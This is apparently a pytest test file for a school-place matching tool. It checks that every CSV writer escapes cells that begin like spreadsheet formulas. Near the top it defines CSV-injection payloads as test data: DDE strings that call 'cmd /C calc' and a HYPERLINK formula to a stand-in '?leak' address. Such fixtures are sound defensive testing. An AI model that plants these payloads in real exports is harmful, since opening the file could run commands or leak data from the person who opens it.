"""CSV outputs never carry a live spreadsheet formula (issue 12, finding 5).

Child ids and setting names come from users' files, so a cell such as ``=HYPERLINK(...)`` or
``+1+cmd|' /C calc'!A0`` could run when an officer opens an output CSV in Excel. Every CSV
writer prefixes such text with ``'`` (OWASP's rule); numbers stay numbers, and sendmatch reads
its own escaped input files back to the same ids.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from matcher import cli, io
from matcher.input_writers import write_children, write_settings
from matcher.io import FORMULA_LEADS, neutralise_formula, unescape_formula
from matcher.models import Location, SettingType
from tests.factories import child, setting

FAIR_ACCESS = Path(__file__).parent / "data" / "fair_access"
runner = CliRunner()

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak","Open")'
CALC = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CALC, "'" + CALC),
        (AT, "'" + AT),
        (MINUS, "'" + MINUS),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.71", "-0.71"),  # a longitude: Excel reads it as the number it is
        ("+44", "+44"),
        ("-1e-05", "-1e-05"),
        ("Lark Valley", "Lark Valley"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_formula_text_gets_an_apostrophe_and_plain_numbers_do_not(text: str, written: str) -> None:
    assert neutralise_formula(text) == written
    assert unescape_formula(written) == text


def test_an_apostrophe_the_user_typed_is_kept() -> None:
    assert unescape_formula("'quoted") == "'quoted"
    assert unescape_formula("'") == "'"


def cells(paths: Iterable[Path]) -> list[str]:
    found: list[str] = []
    for path in paths:
        with path.open(newline="", encoding="utf-8-sig") as fh:
            found += [cell for record in csv.reader(fh) for cell in record]
    return found


def assert_neutralised(paths: list[Path], *texts: str) -> None:
    every = cells(paths)
    live = [c for c in every if c.startswith(FORMULA_LEADS) and neutralise_formula(c) != c]
    assert not live, f"formula cells written verbatim: {live[:5]}"
    for text in texts:
        assert "'" + text in every, f"{text!r} not written, or not escaped"


@pytest.fixture
def hostile(files: Path) -> Path:
    """The good fixtures with a formula as one child's id and as three settings' names."""
    replace_cell(files / "children.csv", "child_id", "C001", HYPERLINK)
    for urn, name in (("990003", CALC), ("990004", AT), ("990001", MINUS)):
        replace_cell(files / "settings.csv", "name", urn, name, key="urn")
    return files


def replace_cell(path: Path, column: str, old: str, new: str, key: str | None = None) -> None:
    with path.open(newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        header, rows = list(reader.fieldnames or []), list(reader)
    for row in rows:
        if row[key or column] == old:
            row[column] = new
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)


def invoke(*args: str) -> None:
    result = runner.invoke(cli.app, list(args))
    assert result.exit_code == 0, result.output


def test_place_csv_escapes_ids_and_names_and_keeps_numbers(hostile: Path) -> None:
    out = hostile / "placements.csv"
    invoke(
        "place",
        "--children",
        str(hostile / "children.csv"),
        "--settings",
        str(hostile / "settings.csv"),
        "--out",
        str(out),
        "--year-start",
        "2026-09-01",
    )
    assert_neutralised([out], HYPERLINK)
    with out.open(newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    names = {r["setting_name"] for r in rows}
    assert names & {"'" + CALC, "'" + AT, "'" + MINUS}
    assert all(float(r["travel_minutes"]) >= 0 for r in rows if r["travel_minutes"])


def test_tailored_lists_csv_files_escape_every_cell(hostile: Path) -> None:
    out = hostile / "lists.csv"
    invoke(
        "tailored-lists",
        "--children",
        str(hostile / "children.csv"),
        "--settings",
        str(hostile / "settings.csv"),
        "--out",
        str(out),
    )
    written = io.csv_companions(out, io.TAILORED_SHEETS)
    assert all(p.exists() for p in written)
    assert_neutralised(written, HYPERLINK, CALC, AT, MINUS)


def test_fair_access_csv_files_escape_every_cell(hostile: Path) -> None:
    out = hostile / "fap.csv"
    invoke(
        "fair-access",
        "--children",
        str(hostile / "children.csv"),
        "--settings",
        str(hostile / "settings.csv"),
        "--history",
        str(FAIR_ACCESS / "history.csv"),
        "--out",
        str(out),
    )
    written = io.csv_companions(out, io.FAIR_ACCESS_SHEETS)
    assert all(p.exists() for p in written)
    assert_neutralised(written, HYPERLINK, CALC)


def test_xlsx_outputs_keep_the_text_as_text(tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    io.write_tables(out, [io.Table("Sheet", ("child_id",), [{"child_id": HYPERLINK}])])
    cell = load_workbook(out)["Sheet"]["A2"]
    assert (cell.value, cell.data_type) == (HYPERLINK, "s")


def test_input_files_escape_formulas_and_read_back_to_the_same_ids(tmp_path: Path) -> None:
    west = Location(latitude=52.2, longitude=-0.71)
    children = [
        child(HYPERLINK, home=west, preferences=("=1",), sibling_group="@S"),
        child("-1+1", home=west, current_setting="+9 Lark"),
        child("C3", home=west),
    ]
    settings = [
        setting("=1", name=CALC, location=west, la_code="@935"),
        setting("2", name=AT, setting_type=SettingType.SPECIAL, location=west),
    ]
    write_children(children, tmp_path / "children.csv")
    write_settings(settings, tmp_path / "settings.csv")

    written = [tmp_path / "children.csv", tmp_path / "settings.csv"]
    assert_neutralised(written, HYPERLINK, "-1+1", "=1", "@S", "+9 Lark", CALC, AT, "@935")
    assert "-0.71" in cells(written)  # longitudes stay numbers
    assert io.load_children(tmp_path / "children.csv", date(2026, 9, 1)) == children
    assert io.load_settings(tmp_path / "settings.csv") == settings
